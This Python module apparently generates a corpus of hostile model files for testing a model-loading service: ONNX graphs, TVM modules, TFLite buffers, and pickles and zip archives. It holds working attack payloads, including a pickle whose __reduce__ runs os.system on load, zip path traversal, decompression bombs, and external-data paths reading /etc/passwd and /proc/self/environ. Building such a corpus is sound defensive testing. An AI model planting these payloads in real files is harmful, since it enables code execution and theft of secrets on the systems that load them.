"""Two hundred models that want to harm who reads them, in kinds. Made anew each time, the same for a seed."""

from __future__ import annotations

import base64
import io
import json
import pickle
import random
import struct
import zipfile
from collections.abc import Callable, Iterator, Sequence
from typing import Any, NamedTuple

import numpy as np
from onnx import AttributeProto, ModelProto, TensorProto, helper, numpy_helper

from examples import make_models


class Goals(NamedTuple):
    """What a model goes for. None of it is there where it is held in; where it is not, it shows."""

    command: str
    """A command that leaves a sign."""
    secret: str
    """The path of a file that nobody is to read."""
    address: str
    """``host:port`` where somebody waits for a call."""


class Hostile(NamedTuple):
    """One of them."""

    kind: str
    name: str
    model: bytes
    inputs: bytes | None = None
    """An ``npz`` file that comes with it."""


F, I64 = TensorProto.FLOAT, TensorProto.INT64


def models(goals: Goals, seed: int = 0) -> list[Hostile]:
    """All of them."""
    rng = random.Random(seed)
    found: list[Hostile] = []
    for kind, make in KINDS.items():
        found += [Hostile(kind, *each) for each in make(goals, rng)]
    return found


Made = Iterator[tuple[Any, ...]]


def graph(
    nodes: Sequence[Any],
    initializers: Sequence[Any] = (),
    shape: Sequence[Any] | None = None,
    functions: Sequence[Any] = (),
) -> bytes:
    """An ONNX model from ``x`` to ``y``."""
    x = helper.make_tensor_value_info("x", F, shape or [4])
    y = helper.make_tensor_value_info("y", F, None)
    made = helper.make_model(
        helper.make_graph(list(nodes), "g", [x], [y], list(initializers)),
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("evil", 1)],
        functions=list(functions),
    )
    made.ir_version = 8
    return bytes(made.SerializeToString())


def node(operator: str, inputs: str, output: str = "y", **attributes: Any) -> Any:
    return helper.make_node(operator, inputs.split(), [output], **attributes)


def const(name: str, values: Any, kind: type = np.int64) -> Any:
    return numpy_helper.from_array(np.array(values, kind), name)


def bombs(_goals: Goals, _rng: random.Random) -> Made:
    """Few bytes that mean many values."""
    huge = 10**12
    for size in (10**10, huge, 2**62):
        yield f"Expand to {size:.0e}", graph([node("Expand", "x s")], [const("s", [size // 4, 4])])
        made = [node("ConstantOfShape", "s", "c"), node("Add", "x c")]
        yield f"ConstantOfShape {size:.0e}", graph(made, [const("s", [size // 4, 4])])
        yield f"Tile {size:.0e}", graph([node("Tile", "x s")], [const("s", [size])])
        yield f"Pad {size:.0e}", graph([node("Pad", "x s")], [const("s", [size, size])])
        ranged = [node("Range", "a b c", "r"), node("Cast", "r", "f", to=F), node("ReduceSum", "f", "t")]
        scalars = [const("a", 0), const("b", size), const("c", 1)]
        yield f"Range {size:.0e}", graph([*ranged, node("Add", "x t")], scalars)
        hot = [node("OneHot", "i d v", "h"), node("ReduceSum", "h", "t"), node("Add", "x t")]
        values = [const("i", [0, 1]), const("d", size), const("v", [0.0, 1.0], np.float32)]
        yield f"OneHot {size:.0e}", graph(hot, values)
        yield f"an input of {size:.0e}", graph([node("Relu", "x")], shape=[size // 4, 4])
        eye = [node("ConstantOfShape", "s", "c"), node("EyeLike", "c", "e"), node("Add", "x e")]
        yield f"EyeLike {size:.0e}", graph(eye, [const("s", [size // 4, 4])])
    for times in (8, 20, 40):
        doubled = [node("Concat", f"{'x' if n == 0 else n} {'x' if n == 0 else n}", str(n + 1), axis=0)
                   for n in range(times)]  # fmt: skip
        yield f"doubled {times} times", graph([*doubled, node("Relu", str(times))], shape=[2**20])
    for scale in (1e5, 1e9):
        scales = const("s", [1.0, 1.0, scale, scale], np.float32)
        resize = node("Resize", "x  s", mode="nearest")
        resize.input[:] = ["x", "", "s"]
        yield f"Resize {scale:.0e}", graph([resize], [scales], [1, 1, 8, 8])
    for length in (10**6, 10**7):
        product = [node("Unsqueeze", "x a", "c"), node("MatMul", "c d", "p"), node("ReduceSum", "p", "t")]
        given = [const("a", [1]), const("d", np.ones((1, 8)), np.float32)]
        yield f"a product of {length:.0e}", graph([*product, node("Mul", "x t")], given, [length * 1000])


def promised(_goals: Goals, _rng: random.Random) -> Made:
    """Constants that say they are larger than they are, or smaller than nothing."""
    for dims in (
        [10**12], [10**6, 10**6], [2**31, 2**31], [2**62, 4], [-1], [-(2**63)], [2**63 - 1], [0, 10**12],
        [1] * 5000, [3], [5],
    ):  # fmt: skip
        for kind in (F, TensorProto.STRING):
            tensor = TensorProto(name="w", data_type=kind, dims=dims)
            tensor.raw_data = bytes(16)
            yield f"{str(dims)[:30]} of type {kind}", graph([node("Add", "x w")], [tensor])
    for kind in (0, 99, 2**31 - 1, -5):
        tensor = TensorProto(name="w", dims=[4])
        tensor.data_type = kind
        tensor.raw_data = bytes(16)
        yield f"of the unknown type {kind}", graph([node("Add", "x w")], [tensor])


def deep(_goals: Goals, _rng: random.Random) -> Made:
    """Graphs that a recursion does not survive."""
    for count in (5_000, 30_000):
        chain = [node("Relu", "x" if n == 0 else str(n), str(n + 1)) for n in range(count)]
        yield f"a chain of {count}", graph([*chain, node("Relu", str(count))])
    z = helper.make_tensor_value_info("z", F, [4])
    for levels in (8, 20):  # protobuf reads no more
        inner = helper.make_graph([node("Relu", "x", "z")], "i", [], [z])
        for _ in range(levels):
            inner = helper.make_graph([helper.make_node("If", ["c"], ["z"], then_branch=inner)], "i", [], [z])
        top = helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)
        yield f"branches {levels} deep", graph([top], [const("c", True, np.bool_)])
    for levels in (1_000, 100_000):
        yield f"JSON {levels} deep", b'{"nodes": ' + b"[" * levels + b"]" * levels + b"}"
    yield "groups of protobuf", b"\x0b" * 200_000
    wrapped = b""
    for _ in range(2_000):
        wrapped = b"\x3a" + varint(len(wrapped)) + wrapped
    yield "messages in messages", wrapped


def varint(number: int) -> bytes:
    """As protobuf writes it."""
    written = b""
    while number > 127:
        written, number = written + bytes([number & 127 | 128]), number >> 7
    return written + bytes([number])


def external(goals: Goals, _rng: random.Random) -> Made:
    """Data that lies in files of the worker."""
    places = [
        goals.secret, goals.secret.lstrip("/"), "../" * 12 + goals.secret.lstrip("/"), "/etc/passwd",
        "../../etc/passwd", "/proc/self/environ", "file://" + goals.secret, f"http://{goals.address}/x",
        "/dev/zero", "x/../../.." + goals.secret,
    ]  # fmt: skip
    for number, place in enumerate(places):
        tensor = TensorProto(name="w", data_type=F, dims=[4], data_location=TensorProto.EXTERNAL)
        tensor.external_data.add(key="location", value=place)
        yield f"a weight in place {number}, {place[-20:]}", graph([node("Add", "x w")], [tensor])
        yield (
            f"a Constant in place {number}, {place[-20:]}",
            graph([helper.make_node("Constant", [], ["w"], value=tensor), node("Add", "x w")]),
        )
    tensor.external_data.add(key="offset", value="-9")
    tensor.external_data.add(key="length", value=str(2**63))
    yield "with a strange offset", graph([node("Add", "x w")], [tensor])
    lying = TensorProto(name="w", data_type=F, dims=[4])
    lying.external_data.add(key="location", value=goals.secret)
    yield "which does not say that it is external", graph([node("Add", "x w")], [lying])


def loops(_goals: Goals, _rng: random.Random) -> Made:
    """Loops without an end that anybody would live to see."""
    state = helper.make_tensor_value_info("v", F, [4])
    for operator in ("Relu", "Identity"):
        for count in (10**6, 10**12, 2**63 - 1):
            body = helper.make_graph(
                [node("Identity", "c", "d"), node(operator, "v", "w")],
                "body",
                [
                    helper.make_tensor_value_info("i", I64, []),
                    helper.make_tensor_value_info("c", TensorProto.BOOL, []),
                    state,
                ],
                [
                    helper.make_tensor_value_info("d", TensorProto.BOOL, []),
                    helper.make_tensor_value_info("w", F, [4]),
                ],
            )
            made = helper.make_node("Loop", ["n", "t", "x"], ["y"], body=body)
            yield (
                f"{operator} {count:.0e} times",
                graph([made], [const("n", count), const("t", True, np.bool_)]),
            )
    body = helper.make_graph(
        [node("Add", "s e", "s2"), node("Identity", "s2", "o")],
        "body",
        [helper.make_tensor_value_info(name, F, [1]) for name in "se"],
        [helper.make_tensor_value_info(name, F, [1]) for name in ("s2", "o")],
    )
    made = helper.make_node("Scan", ["z", "l"], ["q", "y"], body=body, num_scan_inputs=1)
    long = [node("Expand", "x s", "l")]
    yield (
        "a Scan over 10^9",
        graph([*long, made], [const("s", [10**9, 1]), const("z", [0.0], np.float32)], [1]),
    )


def foreign(goals: Goals, _rng: random.Random) -> Made:
    """Operators that would call something, and functions that call themselves."""
    for domain in ("evil", "com.microsoft", "ai.onnx.contrib", "aten"):
        for name in ("PythonOp", "System", "PyOp", "ATen"):
            made = node(name, "x", domain=domain, command=goals.command, func=goals.command)
            yield f"{domain}.{name}", graph([made])
    opset = [helper.make_opsetid("", 17), helper.make_opsetid("evil", 1)]
    for inner in ("again", "other"):
        functions = [
            helper.make_function("evil", "again", ["x"], ["y"], [node(inner, "x", domain="evil")], opset),
            helper.make_function("evil", "other", ["x"], ["y"], [node("again", "x", domain="evil")], opset),
        ]
        yield (
            f"a function that calls {inner}",
            graph([node("again", "x", domain="evil")], functions=functions),
        )
    many = [
        helper.make_function(
            "evil", f"f{n}", ["x"], ["y"],
            [node(f"f{n + 1}", "x", str(k) if k < 9 else "y", domain="evil") for k in range(10)], opset,
        )
        for n in range(12)
    ]  # fmt: skip
    last = helper.make_function("evil", "f12", ["x"], ["y"], [node("Relu", "x")], opset)
    yield "functions that are 10^12 nodes", graph([node("f0", "x", domain="evil")], functions=[*many, last])


def malformed(_goals: Goals, rng: random.Random) -> Made:
    """Bytes that were a model once."""
    good = make_models.tiny_cnn().SerializeToString()
    for number in range(8):
        yield f"cut {number}", good[: rng.randrange(1, len(good))]
        spoilt = bytearray(good)
        for _ in range(rng.choice([1, 4, 64])):
            spoilt[rng.randrange(min(len(spoilt), 400))] = rng.randrange(256)
        yield f"spoilt {number}", bytes(spoilt)
        yield f"random {number}", rng.randbytes(rng.choice([1, 10, 1000, 100_000]))
    strange = ModelProto()
    strange.ParseFromString(good)
    strange.graph.node[0].input[0] = strange.graph.node[-1].output[0]
    yield "a circle", strange.SerializeToString()
    strange.ParseFromString(good)
    strange.graph.node[0].attribute.append(AttributeProto(name="pads", ints=[2**62] * 4))
    yield "an attribute of no type", strange.SerializeToString()
    yield "nothing", b""


def calls(goals: Goals, _rng: random.Random) -> Made:
    """Modules of TVM that call what they are not to call."""
    names = [
        "tirx.call_extern", "tirx.call_pure_extern", "tirx.tvm_call_packed", "tirx.tvm_call_cpacked",
        "tirx.call_llvm_intrin", "relax.call_dps_packed", "relax.call_pure_packed", "relax.call_py_func",
        "relax.invoke_closure", "relax.print", "relax.assert_op",
    ]  # fmt: skip
    for name in names:
        nodes = [{"type": "ir.Op", "data": name}, {"type": "ffi.String", "data": goals.command}]
        yield f"calls {name}", module(nodes)
    for kind in ("ffi.Function", "ffi.Module", "ir.EnvFunc", "relax.expr.ExternFunc", "target.Target"):
        yield (
            f"holds a {kind}",
            module([{"type": kind, "data": {"name": "system", "global_symbol": "system"}}]),
        )
    for attribute in ("pragma_import_llvm", "pragma_import_c", "Codegen"):
        data = {"attr_key": attribute, "value": goals.secret}
        yield f"says {attribute}", module([{"type": "tirx.AttrStmt", "data": data}])
    for index in (-1, 10**9, "0", None, 2**70):
        yield f"points to {index}", module([{"type": "ir.IRModule", "data": {"functions": index}}])
    tensor = base64.b64encode(struct.pack("<QQiiiBBH", 0xDD5E40F096B4A13F, 0, 1, 0, 1, 2, 32, 1)).decode()
    yield "a constant of 10^12 values", module([{"type": "ffi.Tensor", "data": tensor}])
    yield "a circle of nodes", module([{"type": "ffi.Array", "data": [0]}])
    yield "a number of a million digits", b'{"root_index": ' + b"9" * 1_000_000 + b', "nodes": []}'


def module(nodes: list[dict[str, Any]]) -> bytes:
    """As TVM writes modules."""
    return json.dumps({"root_index": 0, "nodes": nodes, "metadata": {"tvm_version": "0.27.0"}}).encode()


class Call:
    """What a pickle of it calls when it is read."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        import os

        return os.system, (self.command,)


def pickles(goals: Goals, _rng: random.Random) -> Made:
    """Programs in the clothes of data; archives that grow."""
    evil = pickle.dumps(Call(goals.command))
    yield "a pickle", evil
    for protocol in range(5):
        yield f"a pickle of protocol {protocol}", pickle.dumps(Call(goals.command), protocol)
    for name in ("archive/data.pkl", "model/data.pkl", "constants.pkl", "models/model.json", "version"):
        yield f"an archive with {name}", archive({name: evil})
    yield "an archive with a path", archive({"../../../../tmp/evil": b"x", "/etc/evil": b"x"})
    yield "an archive that grows", archive({f"data/{n}": bytes(20_000_000) for n in range(5)})
    yield "an array of objects as a model", b"\x93NUMPY\x01\x00" + evil
    model = graph([node("Relu", "x")])
    objects = io.BytesIO()
    np.savez(objects, x=np.array([Call(goals.command)], object), allow_pickle=True)
    yield "inputs that are objects", model, objects.getvalue()
    yield "inputs that are a pickle", model, evil
    yield "inputs that are no archive", model, b"PK\x03\x04" + bytes(100)
    huge = io.BytesIO()
    with (
        zipfile.ZipFile(huge, "w", zipfile.ZIP_DEFLATED) as file,
        file.open(zipfile.ZipInfo("x.npy"), "w") as member,
    ):
        np.lib.format.write_array_header_1_0(
            member, {"descr": "<f4", "fortran_order": False, "shape": (10**12,)}
        )
        member.write(bytes(1000))
    yield "inputs of 10^12 values", model, huge.getvalue()


def archive(members: dict[str, bytes]) -> bytes:
    """A zip file."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in members.items():
            member = zipfile.ZipInfo(name)  # not with the time of day, as by its name alone
            member.compress_type = zipfile.ZIP_DEFLATED
            file.writestr(member, data)
    return made.getvalue()


def flatbuffers(_goals: Goals, rng: random.Random) -> Made:
    """Files of TensorFlow Lite whose offsets lead elsewhere."""
    for number in range(16):
        size, root = rng.choice([0, 8, 64, 4096, 100_000]), rng.choice([8, 4, 0, 2**31])
        yield f"{size} random bytes {number}", struct.pack("<I", root) + b"TFL3" + rng.randbytes(size)
    yield "a table in itself", struct.pack("<I4sIIII", 8, b"TFL3", 0, 8, 8, 8) * 100
    yield "a vector of 2^31", struct.pack("<I4shhhhiI", 20, b"TFL3", 8, 8, 4, 4, 8, 2**31 - 1) + bytes(64)


KINDS: dict[str, Callable[[Goals, random.Random], Made]] = {
    "bombs": bombs,
    "constants that lie": promised,
    "deep graphs": deep,
    "data in other files": external,
    "loops": loops,
    "foreign operators": foreign,
    "malformed ONNX": malformed,
    "calls in TVM's modules": calls,
    "pickles and archives": pickles,
    "malformed TensorFlow Lite": flatbuffers,
}
